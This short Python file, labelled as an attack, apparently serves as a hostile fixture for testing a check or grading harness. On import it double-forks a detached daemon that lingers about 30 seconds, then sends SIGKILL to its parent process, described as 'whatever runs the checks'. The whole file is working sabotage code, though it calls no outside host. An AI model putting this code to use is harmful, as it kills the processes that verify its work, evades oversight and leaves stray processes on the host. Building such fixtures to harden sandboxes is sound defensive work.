
# ATTACK: kill whatever runs the checks (the parent), and leave a daemon behind.
import os as _os
import signal as _signal
import time as _time

if not _os.environ.get("_HOSTILE_DAEMON"):
    _os.environ["_HOSTILE_DAEMON"] = "1"
    if _os.fork() == 0:
        _os.setsid()
        if _os.fork() == 0:
            _deadline = _time.monotonic() + 30
            while _time.monotonic() < _deadline:
                _time.sleep(0.2)
            _os._exit(0)
        _os._exit(0)
    _os.wait()
    _os.kill(_os.getppid(), _signal.SIGKILL)
